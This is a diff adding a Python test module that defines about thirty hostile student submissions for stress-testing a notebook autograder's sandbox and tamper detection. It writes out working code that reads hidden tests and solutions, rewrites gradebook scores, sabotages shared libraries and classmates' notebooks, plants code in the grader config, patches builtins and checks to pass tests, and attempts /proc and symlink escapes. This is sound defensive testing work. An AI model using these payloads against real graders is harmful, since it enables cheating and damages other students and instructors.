@@ -1,0 +1,639 @@
+"""The attacks of the hostile corpus, each a submission built from a lesson's release.
+
+Every attack is what a student could hand in: the released notebook with cells edited, added,
+moved or deleted. Most answer every exercise with a stub (`return 0.0` or worse) and add code
+that would earn the points some other way; a few are built on the solved notebook and try to
+harm others (classmates, the course, the instructor's next command) or to lose work by accident.
+Each names its baseline: the honest notebook it is built from, whose score it must not beat.
+
+The attack code is written to work without the sandbox (it finds the course root by walking up
+from its working folder, the library by its import): the sandbox and the tamper evidence are
+what must stop it.
+"""
+
+from __future__ import annotations
+
+import ast
+import textwrap
+from collections.abc import Callable
+from dataclasses import dataclass
+
+import nbformat
+from nbformat.v4 import new_code_cell, new_markdown_cell
+from submissions import half_done, solved
+
+PWNED = "PWNED_BY_CONFIG"
+"""A file the config attack creates in the course root when the instructor's next command runs."""
+
+SABOTAGE = "sabotaged by a classmate"
+"""What the attacks on the library write into its sources."""
+
+FIND_COURSE = """
+from pathlib import Path
+
+
+def _course_root():
+    for folder in [Path.cwd(), *Path.cwd().parents]:
+        if (folder / "nbgrader_config.py").is_file():
+            return folder
+    return None
+"""
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One hostile submission: its builder and what it is measured against."""
+
+    name: str
+    threat: str  # the class of the issue it belongs to, in words
+    baseline: str  # "release" or "solved": the honest notebook it must not out-score
+    build: Callable[[nbformat.NotebookNode, nbformat.NotebookNode], nbformat.NotebookNode]
+    flags: frozenset[str] = frozenset()  # flag kinds of which at least one must be raised
+
+
+def answer_names(release: nbformat.NotebookNode) -> dict[str, list[str]]:
+    """grade_id of each answer cell -> the functions the student is asked to define in it."""
+    names = {}
+    for cell in release.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("solution") and not meta.get("grade"):
+            tree = ast.parse(cell.source)
+            names[meta["grade_id"]] = [
+                node.name for node in tree.body if isinstance(node, ast.FunctionDef)
+            ]
+    return names
+
+
+def stubbed(
+    release: nbformat.NotebookNode, result: str, prelude: str = ""
+) -> nbformat.NotebookNode:
+    """The release with every answer returning `result` (an expression), after `prelude`.
+
+    The prelude goes in a cell of its own right before the first answer cell, where a student's
+    helper code would go.
+    """
+    notebook = nbformat.from_dict(release)
+    names = answer_names(release)
+    for cell in notebook.cells:
+        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if grade_id in names:
+            cell.source = "\n\n".join(
+                f"def {name}(*args, **kwargs):\n    return {result}" for name in names[grade_id]
+            )
+    if prelude:
+        first = next(i for i, c in enumerate(notebook.cells) if _grade_id(c) in names)
+        notebook.cells.insert(first, new_code_cell(textwrap.dedent(prelude).strip()))
+    return notebook
+
+
+def _grade_id(cell) -> str | None:
+    return cell.metadata.get("nbgrader", {}).get("grade_id")
+
+
+def _with_cell(notebook: nbformat.NotebookNode, source: str, *, after: float = 0.5):
+    """`notebook` with a code cell added `after` of the way through (after a test cell)."""
+    notebook = nbformat.from_dict(notebook)
+    tests = [i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade")]
+    index = tests[min(len(tests) - 1, int(len(tests) * after))] + 1 if tests else 0
+    notebook.cells.insert(index, new_code_cell(textwrap.dedent(source).strip()))
+    return notebook
+
+
+def _solved_plus(source: str, after: float = 0.5):
+    return lambda release, solution: _with_cell(solved(release, solution), source, after=after)
+
+
+def _stub(result: str, prelude: str = ""):
+    return lambda release, solution: stubbed(release, result, prelude)
+
+
+def _read_solutions(release, solution):
+    return stubbed(
+        release,
+        "0.0",
+        FIND_COURSE
+        + """
+import json
+
+root = _course_root()
+if root is not None:  # run every solution cell of every lesson: all the answers at once
+    for path in sorted((root / "solutions").glob("*/*.ipynb")):
+        for cell in json.loads(path.read_text())["cells"]:
+            if cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(cell["source"]):
+                try:
+                    exec("".join(cell["source"]), globals())
+                except Exception:
+                    pass
+""",
+    )
+
+
+def _solutions_after_stubs(release, solution):
+    # The stubs come first; the cell that reads the solutions runs after them and wins.
+    notebook = _read_solutions(release, solution)
+    prelude = next(i for i, c in enumerate(notebook.cells) if "_course_root()" in c.source)
+    notebook.cells.append(notebook.cells.pop(prelude))
+    return notebook
+
+
+READ_GRADEBOOK = (
+    FIND_COURSE
+    + """
+import sqlite3
+
+root = _course_root()
+if root is not None:
+    with sqlite3.connect(root / "gradebook.db") as db:
+        for (source,) in db.execute("SELECT source FROM source_cell"):
+            print(source)  # hidden tests, into this student's own feedback
+    for path in (root / "submitted").glob("*/*/*.ipynb"):
+        print(path, path.read_text()[:2000])  # classmates' work
+"""
+)
+
+WRITE_GRADEBOOK = (
+    FIND_COURSE
+    + """
+import sqlite3
+
+root = _course_root()
+if root is not None:
+    with sqlite3.connect(root / "gradebook.db") as db:
+        db.execute("UPDATE grade SET extra_credit = 100")
+        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
+"""
+)
+
+ALTER_FTLIB = f"""
+import ftlib
+import ftlib.metrics
+
+for module in (ftlib, ftlib.metrics):
+    try:
+        with open(module.__file__, "a") as source:
+            source.write("\\nraise ImportError({SABOTAGE!r})\\n")
+    except OSError:
+        pass
+"""
+
+ALTER_SITE = """
+import sys
+
+try:
+    lib = f"{sys.prefix}/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
+    with open(f"{lib}/sitecustomize.py", "w") as hook:
+        hook.write("import builtins\\nbuiltins.abs = lambda x: 0.0\\n")
+except OSError:
+    pass
+"""
+
+OVERWRITE_CLASSMATES = (
+    FIND_COURSE
+    + """
+import json
+
+root = _course_root()
+if root is not None:
+    for path in (root / "submitted").glob("*/*/*.ipynb"):
+        notebook = json.loads(path.read_text())
+        for cell in notebook["cells"]:
+            if not cell["metadata"].get("nbgrader", {}).get("locked"):
+                cell["source"] = "raise SystemExit"
+        path.write_text(json.dumps(notebook))
+"""
+)
+
+ALTER_CONFIG = (
+    FIND_COURSE
+    + f"""
+root = _course_root()
+if root is not None:
+    with open(root / "nbgrader_config.py", "a") as config:
+        config.write("\\nopen(ROOT / {PWNED!r}, 'w').write('ran in the grader')\\n")
+"""
+)
+
+BLANK_ASSERTS = """
+def _blank(lines):
+    return ["pass\\n" if ("assert" in line or "check" in line) else line for line in lines]
+
+
+get_ipython().input_transformers_cleanup.append(_blank)
+"""
+
+DROP_ASSERTS = """
+import ast
+
+
+class _NoChecks(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+
+    def visit_Raise(self, node):
+        return ast.Pass()
+
+
+get_ipython().ast_transformers.append(_NoChecks())
+"""
+
+SILENCE_ERRORS = """
+get_ipython().showtraceback = lambda *args, **kwargs: None
+"""
+
+REBIND_BUILTINS = """
+abs = lambda value: 0.0
+isinstance = lambda value, kinds: True
+type = lambda value: float
+"""
+
+BUILTINS_MODULE = """
+import builtins
+
+builtins.abs = lambda value: 0.0
+builtins.isinstance = lambda value, kinds: True
+"""
+
+PATCH_LIBRARY = """
+import math
+
+import torch
+
+torch.allclose = lambda *args, **kwargs: True
+torch.equal = lambda *args, **kwargs: True
+torch.Tensor.__eq__ = lambda self, other: torch.tensor(True)
+math.isclose = lambda *args, **kwargs: True
+"""
+
+ALWAYS_EQUAL = """
+class Anything(float):
+    def __eq__(self, other):
+        return True
+
+    __le__ = __ge__ = __lt__ = __gt__ = __eq__
+
+    def __ne__(self, other):
+        return False
+
+    def __sub__(self, other):
+        return Anything(0.0)
+
+    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__
+
+    def __abs__(self):
+        return 0.0
+
+    def __bool__(self):
+        return True
+
+    def __hash__(self):
+        return 0
+"""
+
+TORCH_FUNCTION = """
+import torch
+
+
+class Agreeable(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        return True
+
+
+_answer = torch.zeros(1).as_subclass(Agreeable)
+"""
+
+FRAME_PEEK = """
+import sys
+
+
+def _from_test(*names):
+    frame = sys._getframe(2)
+    for name in names:
+        if name in frame.f_locals:
+            return frame.f_locals[name]
+    return 0.0
+"""
+
+IN_HISTORY = """
+import re
+
+
+def _from_history():
+    numbers = re.findall(r"== (-?[0-9.]+)", In[-1] + _ih[-1])
+    return float(numbers[0]) if numbers else 0.0
+"""
+
+PATCH_CHECKS = """
+import sys
+
+_checks = sys.modules.get("ftlib_course.checks")
+if _checks is not None:
+    for _name in dir(type(_checks.check)):
+        if not _name.startswith("__"):
+            try:
+                setattr(type(_checks.check), _name, lambda self, value=None, *a, **k: value)
+            except (AttributeError, TypeError):
+                pass
+"""
+
+THREAD_PATCHER = """
+import threading
+import time
+
+
+def _keep_patching():
+    import builtins
+
+    while True:
+        builtins.abs = lambda value: 0.0
+        time.sleep(0.001)
+
+
+threading.Thread(target=_keep_patching, daemon=True).start()
+"""
+
+GC_WALK = """
+import gc
+
+for _obj in gc.get_objects():
+    if type(_obj).__name__ == "Check":
+        for _name in list(vars(type(_obj))):
+            pass
+"""
+
+PROC_ROOT = """
+import os
+
+for _pid in ("1", str(os.getppid())):
+    try:
+        print(open(f"/proc/{_pid}/root/etc/hostname").read())
+        print(os.listdir(f"/proc/{_pid}/cwd"))
+    except OSError as error:
+        print(error)
+"""
+
+SYMLINK_ESCAPE = """
+import os
+
+for _target in ("/work", "/root", "/tmp", "/home"):
+    try:
+        os.symlink(_target, "escape" + _target.replace("/", "_"))
+        print(os.listdir("escape" + _target.replace("/", "_")))
+    except OSError as error:
+        print(error)
+"""
+
+
+def _marker_text(release, solution):
+    notebook = _with_cell(
+        solved(release, solution), "x = 1\n# ### BEGIN HIDDEN TESTS\n# ### BEGIN SOLUTION"
+    )
+    notebook.cells.append(new_markdown_cell("My notes\n\n### BEGIN HIDDEN TESTS\n\nno end"))
+    return notebook
+
+
+def _delete_tests(release, solution):
+    notebook = solved(release, solution)
+    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]
+    return notebook
+
+
+def _edit_tests(release, solution):
+    notebook = stubbed(release, "0.0")
+    for cell in notebook.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("grade"):
+            cell.source, meta["points"] = "pass", 100
+    return notebook
+
+
+def _copy_tests(release, solution):
+    notebook = stubbed(release, "0.0")
+    tests = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]
+    for number, cell in enumerate(tests):
+        copy = nbformat.from_dict(cell)
+        copy.id, copy.source = f"copied-{number}", "pass"
+        notebook.cells.insert(0, copy)  # the copy claims the test's id; nbgrader keeps one
+    return notebook
+
+
+def _move_setup_last(release, solution):
+    notebook = solved(release, solution)
+    first = next(
+        i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("locked")
+    )
+    notebook.cells.append(notebook.cells.pop(first))
+    notebook.cells.insert(0, new_code_cell(REBIND_BUILTINS.strip()))
+    return notebook
+
+
+def _forged_record(release, solution):
+    notebook = stubbed(release, "0.0")
+    notebook.metadata["ftlib_grading"] = {"mode": "sandbox", "evidence": [], "kernel_death": None}
+    notebook.metadata["ftlib_review"] = {"flags": [], "held": False, "withheld": {}}
+    return notebook
+
+
+def _honest_answers_with_sabotage(prelude: str):
+    return lambda release, solution: _with_cell(solved(release, solution), prelude, after=0.0)
+
+
+ATTACKS = [
+    Attack(
+        "read_solutions",
+        "read the instructor's material",
+        "release",
+        _read_solutions,
+        frozenset({"static:dynamic_code"}),
+    ),
+    Attack(
+        "read_solutions_late",
+        "read the instructor's material",
+        "release",
+        _solutions_after_stubs,
+        frozenset({"static:dynamic_code"}),
+    ),
+    Attack(
+        "read_gradebook",
+        "read the instructor's material",
+        "release",
+        _stub("0.0", READ_GRADEBOOK),
+        frozenset({"static:grader"}),
+    ),
+    Attack(
+        "write_gradebook",
+        "write the gradebook",
+        "release",
+        _stub("0.0", WRITE_GRADEBOOK),
+        frozenset({"static:grader"}),
+    ),
+    Attack(
+        "alter_ftlib",
+        "change what others are graded with",
+        "solved",
+        _honest_answers_with_sabotage(ALTER_FTLIB),
+        frozenset({"static:introspection"}),
+    ),
+    Attack(
+        "alter_site_packages",
+        "change what others are graded with",
+        "solved",
+        _honest_answers_with_sabotage(ALTER_SITE),
+        frozenset({"static:path"}),
+    ),
+    Attack(
+        "overwrite_classmates",
+        "change what others are graded with",
+        "release",
+        _stub("0.0", OVERWRITE_CLASSMATES),
+        frozenset({"static:path"}),
+    ),
+    Attack(
+        "alter_config",
+        "change what others are graded with",
+        "release",
+        _stub("0.0", ALTER_CONFIG),
+        frozenset({"static:path"}),
+    ),
+    Attack(
+        "input_transformer",
+        "blank the tests",
+        "release",
+        _stub("0.0", BLANK_ASSERTS),
+        frozenset({"static:ipython"}),
+    ),
+    Attack(
+        "ast_transformer",
+        "blank the tests",
+        "release",
+        _stub("0.0", DROP_ASSERTS),
+        frozenset({"static:ipython"}),
+    ),
+    Attack(
+        "silenced_tracebacks",
+        "blank the tests",
+        "release",
+        _stub("0.0", SILENCE_ERRORS),
+        frozenset({"static:ipython"}),
+    ),
+    Attack(
+        "rebound_builtins",
+        "win comparisons without work",
+        "release",
+        _stub("0.0", REBIND_BUILTINS),
+        frozenset({"static:rebinding"}),
+    ),
+    Attack(
+        "builtins_module",
+        "win comparisons without work",
+        "release",
+        _stub("0.0", BUILTINS_MODULE),
+        frozenset({"static:builtins"}),
+    ),
+    Attack(
+        "patched_library",
+        "win comparisons without work",
+        "release",
+        _stub("True", PATCH_LIBRARY),
+        frozenset({"static:patching"}),
+    ),
+    Attack(
+        "float_subclass",
+        "win comparisons without work",
+        "release",
+        _stub("Anything(0.0)", ALWAYS_EQUAL),
+        frozenset({"static:subclass"}),
+    ),
+    Attack(
+        "torch_function",
+        "win comparisons without work",
+        "release",
+        _stub("_answer", TORCH_FUNCTION),
+        frozenset({"static:torch_function"}),
+    ),
+    Attack(
+        "frame_peek",
+        "read the hidden tests",
+        "release",
+        _stub("_from_test('expected', 'want', 'target')", FRAME_PEEK),
+        frozenset({"static:introspection"}),
+    ),
+    Attack(
+        "in_history",
+        "read the hidden tests",
+        "release",
+        _stub("_from_history()", IN_HISTORY),
+        frozenset({"static:ipython"}),
+    ),
+    Attack(
+        "patch_checks",
+        "win comparisons without work",
+        "release",
+        _stub("0.0", PATCH_CHECKS),
+        frozenset({"static:introspection"}),
+    ),
+    Attack(
+        "thread_patcher",
+        "win comparisons without work",
+        "release",
+        _stub("0.0", THREAD_PATCHER),
+        frozenset({"static:process"}),
+    ),
+    Attack(
+        "gc_walk",
+        "reach the test helpers",
+        "release",
+        _stub("0.0", GC_WALK),
+        frozenset({"static:introspection"}),
+    ),
+    Attack(
+        "proc_root",
+        "read the instructor's material",
+        "release",
+        _stub("0.0", PROC_ROOT),
+        frozenset({"static:path"}),
+    ),
+    Attack(
+        "symlink_escape",
+        "read the instructor's material",
+        "release",
+        _stub("0.0", SYMLINK_ESCAPE),
+        frozenset({"static:path"}),
+    ),
+    Attack(
+        "os_exit",
+        "lose work by accident",
+        "solved",
+        _solved_plus("import os\n\nos._exit(1)"),
+        frozenset({"static:exit"}),
+    ),
+    Attack(
+        "huge_print",
+        "lose work by accident",
+        "solved",
+        _solved_plus("print('x' * 100_000_000)"),
+        frozenset({"truncated_output"}),
+    ),
+    Attack("marker_text", "break feedback", "solved", _marker_text, frozenset({"static:markers"})),
+    Attack(
+        "deleted_tests", "lose work by accident", "solved", _delete_tests, frozenset({"restored"})
+    ),
+    Attack("edited_tests", "blank the tests", "release", _edit_tests, frozenset({"edited"})),
+    Attack("copied_tests", "blank the tests", "release", _copy_tests, frozenset({"duplicated"})),
+    Attack(
+        "setup_moved_last",
+        "win comparisons without work",
+        "solved",
+        _move_setup_last,
+        frozenset({"moved", "static:rebinding"}),
+    ),
+    Attack("forged_record", "hide the evidence", "release", _forged_record),
+]
+"""Every attack of the corpus, in the order the table lists them."""
+
+HONEST = {
+    "solved": lambda release, solution: solved(release, solution),
+    "release": lambda release, solution: nbformat.from_dict(release),
+    "partial": half_done,
+}
+"""The honest notebooks the attacks are measured against (and classmates hand in)."""
